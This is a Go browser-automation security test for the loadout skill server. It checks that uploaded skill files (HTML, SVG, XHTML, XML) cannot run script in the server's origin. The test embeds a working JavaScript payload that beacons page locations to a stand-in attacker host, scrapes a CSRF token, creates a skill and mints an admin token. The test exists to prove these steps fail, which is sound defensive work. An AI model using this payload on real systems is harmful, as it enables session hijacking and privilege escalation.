package attack

import (
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/loadout/loadout/internal/browsertest"
)

// A skill's file ran script in the server's origin.
//
// Each skill file below tries, when a browser runs it: to report to the
// attacker's site, to create a skill through the API, and to read the
// CSRF token from /ui/tokens and mint an admin token with it. A real
// Chromium opens every file route with every active file, in the open
// mode (no tokens) and in token mode with an admin signed in to the UI:
//
//   - cross-site: a page on another site (127.0.0.2) sets location to the
//     file's URL, and frames every file URL at once;
//   - directly, in token mode: the browser opens the URL itself (a link
//     followed from elsewhere), and the session cookie goes with it;
//   - in the UI: a skill's Preview holds links to every file URL, absolute
//     (as the reported reproduction wrote them, and under other names of
//     the server) and relative, and every link the Preview shows is
//     clicked.
//
// It must hold that no script runs: the attacker hears nothing, no skill
// is created, no token is minted, every document opened from a file is
// text or an image, in a sandbox (an opaque origin), and the Preview has
// no live link to this server.

// payload is the script each active file carries; ATTACKER is the
// attacker's base URL.
const payload = `(async () => {
  document.title = "PWNED";
  const A = "ATTACKER";
  try { navigator.sendBeacon(A + "/ran?at=" + encodeURIComponent(location.href)); } catch (e) {}
  try { new Image().src = A + "/ran?img=" + encodeURIComponent(location.href); } catch (e) {}
  let csrf = "";
  try { const t = await (await fetch("/ui/tokens", {credentials: "same-origin"})).text(); csrf = (t.match(/name="csrf-token" content="([^"]*)"/) || [])[1] || ""; } catch (e) {}
  try { await fetch("/v1/skills", {method: "POST", credentials: "same-origin", headers: {"Content-Type": "application/json", "X-CSRF-Token": csrf}, body: JSON.stringify({content: "---\nname: pwned\ndescription: Made by a skill file's script.\n---\nx\n"})}); } catch (e) {}
  try { await fetch("/ui/tokens", {method: "POST", credentials: "same-origin", headers: {"Content-Type": "application/x-www-form-urlencoded"}, body: "name=pwned&scope=admin&csrf=" + encodeURIComponent(csrf)}); } catch (e) {}
  try { navigator.sendBeacon(A + "/ran?done=" + encodeURIComponent(location.href)); } catch (e) {}
})();`

// activeFiles are a skill's files that run the payload when a browser
// renders them with the type their name gives.
func activeFiles(attacker string) map[string]string {
	js := strings.ReplaceAll(payload, "ATTACKER", attacker)
	html := "<!doctype html><html><head><title>file</title></head><body><p>file</p><script>" + js + "</script></body></html>\n"
	return map[string]string{
		"page.html": html,
		"page.HTML": html,
		"page.xhtml": `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>file</title></head><body><script>//<![CDATA[
` + js + `
//]]></script></body></html>`,
		"pic.svg": `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script>//<![CDATA[
` + js + `
//]]></script><rect width="20" height="20" fill="teal"/></svg>`,
		"feed.xml": `<?xml version="1.0"?><feed><x:script xmlns:x="http://www.w3.org/1999/xhtml">//<![CDATA[
` + js + `
//]]></x:script></feed>`,
	}
}

// storedTypes are the content types a stored skill's import gives its
// .txt files of HTML, SVG or XHTML: the server must not believe them.
var storedTypes = map[string]string{
	"b.txt": "text/html",
	"c.txt": "text/html; charset=utf-8",
	"d.txt": "image/svg+xml",
	"e.txt": "APPLICATION/XHTML+XML",
}

// attacker is the other site: its pages send the browser to the server,
// and it counts what the payload reports.
type attacker struct {
	base string
	mu   sync.Mutex
	ran  []string
}

func startAttacker(t *testing.T) *attacker {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatalf("listening on 127.0.0.2, the attacker's site: %v", err)
	}
	a := &attacker{}
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/ran":
			a.mu.Lock()
			a.ran = append(a.ran, r.URL.RawQuery)
			a.mu.Unlock()
		case "/go":
			to, _ := json.Marshal(r.URL.Query().Get("to"))
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprintf(w, `<!doctype html><title>attacker</title><script>location.href = %s;</script>`, to)
		case "/frames":
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, `<!doctype html><title>attacker frames</title>`)
			for _, u := range r.URL.Query()["u"] {
				fmt.Fprintf(w, `<iframe src="%s"></iframe>`, htmlEscape(u))
			}
		}
	}))
	srv.Listener.Close()
	srv.Listener = ln
	srv.Start()
	t.Cleanup(srv.Close)
	a.base = srv.URL
	return a
}

// take returns what the attacker heard and forgets it.
func (a *attacker) take() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	r := a.ran
	a.ran = nil
	return r
}

func (a *attacker) heard() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.ran...)
}

func htmlEscape(s string) string {
	return strings.NewReplacer(`&`, "&amp;", `"`, "&quot;", `<`, "&lt;", `>`, "&gt;").Replace(s)
}

func TestSkillFilesRunNoScript(t *testing.T) {
	Engines(t, func(t *testing.T, engine string) {
		for _, mode := range []string{"open", "token"} {
			t.Run(mode, func(t *testing.T) { filesAttack(t, engine, mode == "token") })
		}
	})
}

func filesAttack(t *testing.T, engine string, tokens bool) {
	att := startAttacker(t)
	files := activeFiles(att.base)
	skills := DefaultSkills()
	skills["web/SKILL.md"] = "---\nname: web\ndescription: Use when you need the web pages.\n---\nSee assets/page.html.\n"
	for p, c := range files {
		skills["web/assets/"+p] = c
	}
	s := Start(t, Options{Engine: engine, Skills: skills, Tokens: tokens})
	port := s.Base[strings.LastIndexByte(s.Base, ':')+1:]

	// A stored skill with imported content types, and one whose Preview
	// links to every file URL.
	html := files["page.html"]
	var stored []map[string]string
	for p, ct := range storedTypes {
		body := html
		if strings.Contains(strings.ToLower(ct), "svg") {
			body = files["pic.svg"]
		} else if strings.Contains(strings.ToLower(ct), "xhtml") {
			body = files["page.xhtml"]
		}
		stored = append(stored, map[string]string{"path": p, "content": body, "contentType": ct})
	}
	create := func(name, body string, fs []map[string]string) {
		t.Helper()
		doc, _ := json.Marshal(map[string]any{"content": "---\nname: " + name + "\ndescription: Use when you test " + name + ".\n---\n" + body, "files": fs})
		if code, _, b := s.Do(t, "POST", "/v1/skills", s.Admin, string(doc)); code != 201 {
			t.Fatalf("creating the stored skill %s: %d %s", name, code, b)
		}
	}
	create("stored", "Files with imported types.\n", stored)

	// Every route that serves a skill's bytes, for every active file.
	type target struct{ name, path string }
	var targets []target
	for p := range files {
		targets = append(targets, target{"web", "assets/" + p})
	}
	for p := range storedTypes {
		targets = append(targets, target{"stored", p})
	}
	link := ""
	if tokens {
		out, errOut, code := s.CLI(t, "token", "create", "--db", s.DB, "--link", "coder")
		i := strings.Index(out, "/i/")
		if code != 0 || i < 0 {
			t.Fatalf("token create --link: %d %s%s", code, out, errOut)
		}
		link = strings.TrimSpace(out[i:])
	}
	var urls []string
	for _, tg := range targets {
		paths := []string{
			"/v1/skills/" + tg.name + "/files/" + tg.path,
			"/v1/agents/coder/skills/" + tg.name + "/files/" + tg.path + "?raw=1",
			"/.well-known/skills/" + tg.name + "/" + tg.path,
			"/.well-known/agent-skills/" + tg.name + "/" + tg.path,
			"/agents/coder/.well-known/agent-skills/" + tg.name + "/" + tg.path,
			"/ui/skills/" + tg.name + "/files/" + tg.path,
		}
		if link != "" {
			paths = append(paths, link+"/.well-known/agent-skills/"+tg.name+"/"+tg.path)
		}
		for _, p := range paths {
			urls = append(urls, s.Base+p)
			// Each route serves the file (else the attack proves nothing).
			if !strings.HasPrefix(p, "/ui/") {
				code, h, _ := s.Do(t, "GET", p, s.Admin, "")
				if code != 200 {
					t.Errorf("GET %s: %d, want 200: the route must serve the file for the attack to mean anything", p, code)
				}
				if ct := h.Get("Content-Type"); !strings.HasPrefix(ct, "text/plain") && ct != "application/octet-stream" {
					t.Errorf("GET %s: Content-Type %q", p, ct)
				}
				if h.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(h.Get("Content-Security-Policy"), "sandbox") {
					t.Errorf("GET %s: headers %v", p, h)
				}
			}
		}
	}
	// The Preview's links: absolute, under the server's names, and
	// relative.
	var md strings.Builder
	md.WriteString("[rel](page.html) ![relimg](pic.svg)\n\n")
	for i, u := range urls {
		fmt.Fprintf(&md, "[docs%d](%s) <%s>\n\n", i, u, u)
		if i%7 == 0 {
			alias := strings.Replace(u, "127.0.0.1:"+port, "localhost:"+port, 1)
			fmt.Fprintf(&md, "[alias%d](%s) [hex%d](%s)\n\n", i, alias, i, strings.Replace(u, "127.0.0.1", "0x7f.1", 1))
		}
	}
	create("links", md.String(), []map[string]string{{"path": "page.html", "content": html}, {"path": "pic.svg", "content": files["pic.svg"]}})

	start := time.Now()
	ctx := browsertest.Browser(t, 1200, 900)
	if tokens {
		browsertest.Do(t, ctx, "sign in as admin",
			chromedp.Navigate(s.Base+"/ui/login"),
			chromedp.WaitVisible(chromedp.ID("token")),
			chromedp.SendKeys(chromedp.ID("token"), s.Admin),
			chromedp.Click(chromedp.CSS("form.login-form button[type=submit]")))
		waitURL(t, ctx, func(u string) bool { return strings.HasPrefix(u, s.Base+"/ui/") && !strings.Contains(u, "/ui/login") })
	}
	opened := 0
	check := func(how, u string) {
		t.Helper()
		d, ok := document(ctx)
		if !ok {
			t.Errorf("%s %s: the tab could not be read", how, u)
			return
		}
		if d["href"] != u {
			return // a download or a refusal: no document of the file
		}
		if d["type"] == "application/json" && strings.Contains(d["text"], `"error"`) {
			return // the route's refusal (in token mode, a cross-site navigation carries no session)
		}
		opened++
		if !strings.HasPrefix(d["type"], "text/plain") && !strings.HasPrefix(d["type"], "image/") || d["origin"] != "null" || d["title"] == "PWNED" {
			t.Errorf("%s %s: a document of type %q, origin %q, title %q: %.200s", how, u, d["type"], d["origin"], d["title"], d["text"])
		}
	}
	// What the server and the attacker saw: nothing of the payload.
	verify := func(stage string) {
		t.Helper()
		time.Sleep(500 * time.Millisecond) // beacons in flight
		if got := att.take(); len(got) > 0 {
			t.Errorf("%s: a skill's file ran script: the attacker heard %d reports, first %v", stage, len(got), got[0])
		}
		out, errOut, code := s.CLI(t, "token", "list", "--db", s.DB)
		if code != 0 || strings.Contains(out, "pwned") {
			t.Errorf("%s: token list (exit %d): a skill's file minted a token\n%s%s", stage, code, out, errOut)
		}
		admin := s.Admin
		if admin == "" && strings.Count(strings.TrimSpace(out), "\n") > 0 {
			admin = s.Token(t, "admin") // the attack turned tokens on
		}
		if code, _, b := s.Do(t, "GET", "/v1/skills/pwned", admin, ""); code != 404 {
			t.Errorf("%s: GET /v1/skills/pwned: %d, want 404: a skill's file created a skill\n%s", stage, code, b)
		}
	}
	// The in-UI click: no live link to this server in the Preview, and
	// every link it shows is clicked.
	preview := s.Base + "/ui/skills/links?tab=preview"
	browsertest.Do(t, ctx, "the preview", chromedp.Navigate(preview), chromedp.WaitVisible(chromedp.CSS(".md-preview")))
	hrefs := browsertest.Get(t, ctx, "the preview's links", chromedp.Evaluate[[]string](`[...document.querySelectorAll(".md-preview a[href]")].map(a => a.href)`))
	for _, h := range hrefs {
		hu, err := url.Parse(h)
		if err == nil && hu.Port() == port && strings.HasPrefix(hu.Path, "/ui/skills/links/") {
			continue // the skill's own file, through the UI's route
		}
		t.Errorf("the Preview has a live link to this server: %s", h)
	}
	if len(hrefs) == 0 {
		t.Fatalf("the Preview shows no link at all: the relative one should be there")
	}
	for i := range hrefs {
		if len(att.heard()) > 0 {
			break // a link ran the payload: verify says what it did
		}
		c, cancel := context.WithTimeout(ctx, 10*time.Second)
		err := chromedp.Do(c, chromedp.Navigate(preview), chromedp.WaitVisible(chromedp.CSS(".md-preview")))
		cancel()
		if err != nil {
			t.Errorf("the Preview, again before click %d: %v (did a click change the server?)", i, err)
			break
		}
		before := browsertest.Get(t, ctx, "location", chromedp.Evaluate[string]("location.href"))
		browsertest.Get(t, ctx, fmt.Sprintf("click link %d", i), chromedp.Evaluate[bool](fmt.Sprintf(`(document.querySelectorAll(".md-preview a[href]")[%d].click(), true)`, i)))
		waitURL(t, ctx, func(l string) bool { return l != before }, 2*time.Second)
		d, _ := document(ctx)
		check("clicked in the Preview", d["href"])
	}
	verify("after the Preview's links were clicked")
	// No pause after a document loads: a script in it runs before its
	// load event, and the payload's first act, a beacon to the attacker,
	// outlives the page.
	for _, u := range urls {
		// Cross-site: the attacker's page sends the browser there.
		browsertest.Do(t, ctx, "the attacker's page for "+u, chromedp.Navigate(att.base+"/go?to="+url.QueryEscape(u)))
		waitURL(t, ctx, func(l string) bool { return !strings.HasPrefix(l, att.base) }, 2*time.Second)
		check("cross-site", u)
		// Directly: a link followed from elsewhere, with the session
		// cookie (SameSite=Strict keeps it from the cross-site one). In
		// the open mode this is the cross-site request again.
		if tokens {
			browsertest.Do(t, ctx, "open "+u, chromedp.Navigate(u))
			check("direct", u)
		}
	}
	t.Logf("%d URLs opened in %v", len(urls), time.Since(start))
	// Framed by the attacker's page, all at once.
	q := url.Values{"u": urls}
	browsertest.Do(t, ctx, "the attacker's frames", chromedp.Navigate(att.base+"/frames?"+q.Encode()))
	if opened == 0 {
		t.Errorf("no file was opened as a document: the attack did not reach the routes")
	}
	verify("after the files were opened")

	s.Healthy(t)
}

// document describes the tab's document: its URL, type, origin, title and
// the start of its text. A document still being replaced (the UI's
// bounce page for a link from another site, which reloads the URL from
// this origin) is waited for; ok is false when the tab cannot be read.
func document(ctx context.Context) (map[string]string, bool) {
	for try := 0; try < 40; try++ {
		c, cancel := context.WithTimeout(ctx, 5*time.Second)
		d, err := chromedp.Run(c, chromedp.Evaluate[map[string]string](`({href: location.href, type: document.contentType, origin: String(window.origin), title: document.title, text: (document.body ? document.body.innerText : document.documentElement ? document.documentElement.textContent : "").slice(0, 300)})`))
		cancel()
		if err == nil && d["title"] != "Opening · loadout" {
			return d, true
		}
		time.Sleep(50 * time.Millisecond)
	}
	return nil, false
}

// waitURL waits until the tab's location satisfies ok, for up to the
// given time (default 10 s); it does not fail when the time runs out.
func waitURL(t *testing.T, ctx context.Context, ok func(string) bool, within ...time.Duration) {
	t.Helper()
	d := 10 * time.Second
	if len(within) > 0 {
		d = within[0]
	}
	for end := time.Now().Add(d); time.Now().Before(end); time.Sleep(50 * time.Millisecond) {
		// Read while the page may be navigating: "Inspected target
		// navigated or closed" means ask again, not fail.
		c, cancel := context.WithTimeout(ctx, 5*time.Second)
		l, err := chromedp.Run(c, chromedp.Evaluate[string]("location.href"))
		cancel()
		if err == nil && ok(l) {
			return
		}
	}
}
